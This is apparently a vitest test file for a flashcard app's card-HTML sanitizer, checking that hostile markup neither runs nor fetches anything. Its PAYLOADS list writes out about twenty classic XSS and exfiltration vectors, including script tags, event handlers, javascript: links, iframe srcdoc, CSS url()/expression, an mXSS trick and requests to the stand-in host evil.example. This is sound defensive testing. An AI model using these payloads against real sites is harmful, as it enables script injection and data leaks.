/**
 * Hostile card HTML rendered in real Chromium: nothing runs, nothing is fetched from another
 * host. The payloads are the classic ways a shared deck could try to run or phone home.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { sanitizeCardHtml } from './card-html';

declare global {
	interface Window {
		pwned?: string[];
	}
}

const mark = (what: string) => `(window.pwned=(window.pwned||[])).push('${what}')`;

const PAYLOADS: [string, string][] = [
	['script tag', `<script>${mark('script')}</script>`],
	['img onerror', `<img src="x" onerror="${mark('onerror')}">`],
	['javascript: link', `<a href="javascript:${mark('js-url')}">click</a>`],
	['svg onload', `<svg onload="${mark('svg')}"><circle r="5"/></svg>`],
	['base tag', '<base href="https://evil.example/">'],
	['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
	['iframe', '<iframe src="https://evil.example/frame"></iframe>'],
	['iframe srcdoc', `<iframe srcdoc="<script>${mark('srcdoc')}</script>"></iframe>`],
	['form', '<form action="https://evil.example/"><input name="q"><button>go</button></form>'],
	['css url()', '<div style="background:url(https://evil.example/css.png)">styled</div>'],
	[
		'css @import in a style attribute',
		'<div style="@import url(https://evil.example/i.css); color: red">x</div>'
	],
	['css expression()', '<div style="width: expression(window.pwned=1)">x</div>'],
	['css -moz-binding', '<div style="-moz-binding: url(https://evil.example/b.xml#x)">x</div>'],
	['css behavior', '<div style="behavior: url(https://evil.example/b.htc)">x</div>'],
	['inline onclick', `<div onclick="${mark('onclick')}">x</div>`],
	['style tag', '<style>body{background:url(https://evil.example/style.png)}</style>'],
	['remote image', '<img src="https://evil.example/pixel.png">'],
	['protocol-relative image', '<img src="//evil.example/pixel2.png">'],
	['remote audio', '<audio src="https://evil.example/a.mp3" autoplay></audio>'],
	['object', '<object data="https://evil.example/x.swf"></object>'],
	['details ontoggle', `<details open ontoggle="${mark('toggle')}"><summary>x</summary></details>`],
	['math/mglyph trick', `<math><mtext><table><mglyph><style><img src=x onerror="${mark('mxss')}">`]
];

let host: HTMLElement | undefined;
afterEach(() => {
	host?.remove();
	window.pwned = undefined;
});

function externalRequests(): string[] {
	return performance
		.getEntriesByType('resource')
		.map((e) => e.name)
		.filter((url) => url.includes('evil.example'));
}

describe('hostile card HTML', () => {
	it.each(PAYLOADS)('neutralises %s', async (_name, payload) => {
		host = document.createElement('div');
		host.innerHTML = sanitizeCardHtml(`<p>front</p>${payload}`);
		document.body.append(host);
		host.querySelectorAll('a').forEach((a) => a.click());
		host.querySelectorAll('details').forEach((d) => d.toggleAttribute('open'));
		await new Promise((r) => setTimeout(r, 50));
		expect(window.pwned).toBeUndefined();
		expect(externalRequests()).toEqual([]);
		expect(
			host.querySelector('script, iframe, base, meta, form, style, object, [onerror], [onload]')
		).toBeNull();
		expect(host.textContent).toContain('front');
	});

	it('keeps ordinary formatting, local media names and safe links', () => {
		const html = sanitizeCardHtml(
			'<b>bold</b> <i>it</i> <img src="diagram.png" alt="d"> <a href="https://example.org">x</a>'
		);
		expect(html).toContain('<b>bold</b>');
		expect(html).toContain('<img src="diagram.png" alt="d">');
		expect(html).toContain('rel="noopener noreferrer"');
	});

	it('resolves media names to blob URLs from the media store', () => {
		const html = sanitizeCardHtml('<img src="my%20pic.png">', (name) =>
			name === 'my pic.png' ? 'blob:local/1' : undefined
		);
		expect(html).toBe('<img src="blob:local/1">');
	});

	it('does not request a media name the store does not hold (no 404 before the blob loads)', () => {
		const html = sanitizeCardHtml(
			'<img src="later.png" alt="x"><audio src="s.mp3"></audio>',
			() => undefined
		);
		expect(html).toBe('<img alt="x"><audio></audio>');
	});

	it('removes inline handlers before any parse, keeping the element', () => {
		const html = sanitizeCardHtml(
			`<div onclick="${mark('click')}" class="a" ONMOUSEOVER='x()'>t</div><p>5 &lt; 6</p>`
		);
		expect(html).toBe('<div class="a">t</div><p>5 &lt; 6</p>');
	});
});
